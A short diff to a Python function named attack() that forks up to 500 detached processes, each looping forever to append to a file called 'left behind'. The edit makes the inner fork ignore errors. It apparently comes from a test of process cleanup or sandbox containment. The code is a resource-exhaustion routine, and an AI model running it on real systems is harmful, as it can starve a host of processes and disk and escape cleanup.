@@ -430,7 +430,10 @@ def attack():
         while made < 500:
             if os.fork() == 0:
                 os.setsid()
-                os.fork()
+                try:
+                    os.fork()
+                except OSError:
+                    pass
                 while True:
                     try:
                         open("left behind", "a").write("x")
